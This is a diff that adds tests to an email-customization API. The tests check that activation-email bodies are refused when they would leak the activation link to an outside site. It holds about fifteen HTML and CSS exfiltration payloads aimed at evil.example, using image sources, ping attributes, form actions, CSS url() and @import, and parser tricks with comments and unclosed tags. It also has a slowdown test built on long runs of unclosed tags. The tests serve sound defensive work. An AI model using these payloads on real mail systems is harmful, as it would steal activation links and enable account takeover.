@@ -27,6 +27,55 @@ const wording = (more: object = {}) => ({
   ...more,
 });
 
+describe('the link that opens an account goes to its reader and nobody else', () => {
+  const link = '${activationLink}';
+  test.each([
+    ['in the address of a picture', `<img src="https://evil.example/?${link}">`],
+    ['in an address of somebody else', `<a href="https://evil.example/?${link}">begin</a>`],
+    ['in a picture that is never closed', `<p>${link}</p><img src="https://evil.example/?${link}`],
+    ['behind a bracket in a value', `<img src="https://evil.example/?x>${link}">`],
+    ['behind a quotation mark that opens nothing', `<img alt=a"b src="https://evil.example/?x>${link}">`],
+    ['behind a comment that ends too early', `<!--> <img src="https://evil.example/? -->${link}">`],
+    ['behind a comment for one program', `<!--[if mso]><img src="https://e.example/?<![endif]-->${link}">`],
+    ['in a stylesheet', `<style>p{background:url(https://evil.example/?${link})}</style>${link}`],
+    [
+      'behind a stylesheet that goes on',
+      `<style></stylex>p{background:url(https://e.example/?${link})}</style>`,
+    ],
+    [
+      'read by a stylesheet',
+      `<style>a[href*=a]{background:url(//e.example/a)}</style><a href="${link}">x</a>`,
+    ],
+    ['read by a stylesheet from elsewhere', `<style>@import url(//e.example)</style><a href="${link}">x</a>`],
+    ['read by a linked stylesheet', `<link rel="stylesheet" href="//e.example"><a href="${link}">x</a>`],
+    ['told by a ping', `<a href="${link}" ping="https://evil.example/">begin</a>`],
+    ['in a form', `<form action="//evil.example"><textarea name="t">${link}</textarea></form>`],
+    ['in the title of a link', `<a href="https://evil.example/" title="${link}">begin</a>`],
+  ])('not %s', async (_, body) => {
+    const answer = await call('POST', `${path}/UserActivation/customizations`, wording({ body }));
+    expect([answer.status, answer.text]).toEqual([400, expect.stringContaining('${activationLink}')]);
+    expect(await org.eventTypes()).toEqual([]);
+  });
+  test('a mail as long as it may be, of tags that never end, is read in no time', async () => {
+    for (const part of ['<style', '<a href="x">', '<a', '<a href=', '<!--', '<title>']) {
+      const body = link + part.repeat(Math.floor(199_000 / part.length));
+      const beganMs = performance.now();
+      await call(
+        'POST',
+        `${path}/AccountLockout/customizations`,
+        wording({ body: body.replace(link, ''), language: 'en' }),
+      );
+      const [made] = await org.api<Customization[]>('GET', `${path}/AccountLockout/customizations`);
+      if (made) {
+        await org.api('GET', `${path}/AccountLockout/customizations/${made.id}/preview`);
+        await call('DELETE', `${path}/AccountLockout/customizations`);
+      }
+      expect(performance.now() - beganMs).toBeLessThan(5_000);
+    }
+    await org.eventTypes();
+  });
+});
+
 describe('a wording that could not be sent is refused, and the mail stays as it was', () => {
   test.each([
     ['without the link', { body: '<p>Hello</p>' }, 'body: has to hold ${activationLink}'],
